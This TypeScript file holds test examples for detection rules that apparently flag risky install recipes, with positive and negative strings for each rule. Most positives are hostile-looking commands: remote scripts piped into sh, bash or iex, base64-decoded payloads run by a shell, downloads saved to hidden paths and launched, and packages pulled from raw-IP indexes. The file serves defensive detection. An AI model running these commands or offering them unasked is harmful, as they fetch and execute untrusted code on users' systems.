import type { RuleExamples } from "../rule-examples.ts";

/** What the rules of `piped.ts` must find, and what they must leave. */
export const EXAMPLES = {
  "recipe-piped": {
    positive: [
      "Install: `curl -LsSf https://astral.sh/uv/install.sh | sh`",
      "```\nwget -qO- https://get.vendor.example/i.sh | sudo bash\n```",
      "Run `iwr https://tool.example/i.ps1 | iex`.",
      "```sh\ncurl -s https://x.example/a \\\n  | bash\n```",
    ],
    negative: [
      "curl https://api.example/v1 | jq .name",
      "wget https://data.example/file.csv",
      "`curl -s https://x.example/log | grep bash`",
      "Download the archive and check its sum.",
    ],
  },
  "recipe-piped-unnamed": {
    positive: [
      "`curl -s http://203.0.113.7/setup.sh | bash`",
      "```bash\nwget -qO- https://pastebin.example/raw/abc | sh\n```",
      "Run: curl -fsSL https://tiny-link.example/x9 | sudo sh",
      "iwr http://dl.vendor.test/a.ps1 | iex",
      "curl hxxp://198.51.100.4:8080/a | python3 -",
    ],
    negative: [
      "`curl -LsSf https://astral.sh/uv/install.sh | sh`",
      "curl http://localhost:8080/health | sh check.sh",
      "Never run `curl http://203.0.113.7/x | sh`: an attack.",
      "curl http://203.0.113.7/status | jq .",
    ],
  },
  "recipe-shell-of-fetch-unnamed": {
    positive: [
      "`bash <(curl -s http://192.0.2.10/i.sh)`",
      'sh -c "$(curl -fsSL https://paste.example/raw/1)"',
      "iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')",
      "mshta http://198.51.100.3/a.hta",
    ],
    negative: [
      'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"',
      "bash <(curl -s https://get.vendor.example/i.sh)",
      'eval "$(ssh-agent -s)"',
      "source <(kubectl completion bash)",
    ],
  },
  "recipe-decoded": {
    positive: [
      "`echo Y3VybCBodHRw | base64 -d | bash`",
      "```\nbase64 --decode <<< $X | sh\n```",
      "powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi",
      'bash -c "$(echo aGVsbG8gd29ybGQ= | base64 -d)"',
      "python3 -c \"exec(base64.b64decode('aW1wb3J0'))\"",
    ],
    negative: [
      "`echo $CERT | base64 -d > cert.pem`",
      "kubectl get secret x -o jsonpath='{.data.p}' | base64 -d",
      "Attackers hide commands: `echo … | base64 -d | bash` is a red flag.",
      "Encode the image with base64 and embed it.",
    ],
  },
  "recipe-saved-and-run-hidden": {
    positive: [
      "curl -s https://rowan-kit.invalid/stage2 -o ~/.local/share/.r && sh ~/.local/share/.r",
      "`wget -q https://quartz.example/b -O /tmp/.b; chmod +x /tmp/.b; /tmp/.b`",
      "curl https://slate.test/x > /dev/shm/.x && bash /dev/shm/.x",
      "curl -sL https://flint.example/c -o ~/.cache/.c/core; nohup ~/.cache/.c/core &",
    ],
    negative: [
      "curl -fLo ~/.vim/autoload/plug.vim https://raw.githubusercontent.com/junegunn/vim-plug/master/plug.vim",
      "curl https://data.example/a -o /tmp/a.csv",
      "curl https://slate.test/x -o x && bash x",
      "rm -rf /tmp/.cache",
    ],
  },
  "recipe-saved-and-run-unnamed": {
    positive: [
      "```\ncurl -o /tmp/a http://203.0.113.5/a\nchmod +x /tmp/a\n/tmp/a\n```",
      "`wget https://transfer.example/x/agent && chmod 755 agent && ./agent`",
      "curl -sO http://192.0.2.1/i.sh; bash i.sh",
      "iwr https://filebin.example/t.exe -OutFile t.exe; Start-Process t.exe",
    ],
    negative: [
      "```\ncurl -LO https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl\nchmod +x kubectl\n```",
      "curl http://localhost:3000/build.sh -o build.sh && bash build.sh",
      "wget https://data.example/set.csv && ./analyse set.csv",
      "chmod +x scripts/run.sh && ./scripts/run.sh",
    ],
  },
  "recipe-odd-index": {
    positive: [
      "`pip install --index-url http://203.0.113.2/simple helper`",
      "npm install https://transfer.example/x/pkg.tgz",
      "uvx --from http://192.0.2.8/p.whl tool",
      "pip install --extra-index-url http://pypi.mirror.test/simple requests",
    ],
    negative: [
      "pip install git+https://github.com/huggingface/transformers",
      "pip install --index-url https://download.pytorch.org/whl/cpu torch",
      "npm install --registry http://localhost:4873 pkg",
      "pip install requests",
    ],
  },
} satisfies Record<string, RuleExamples>;
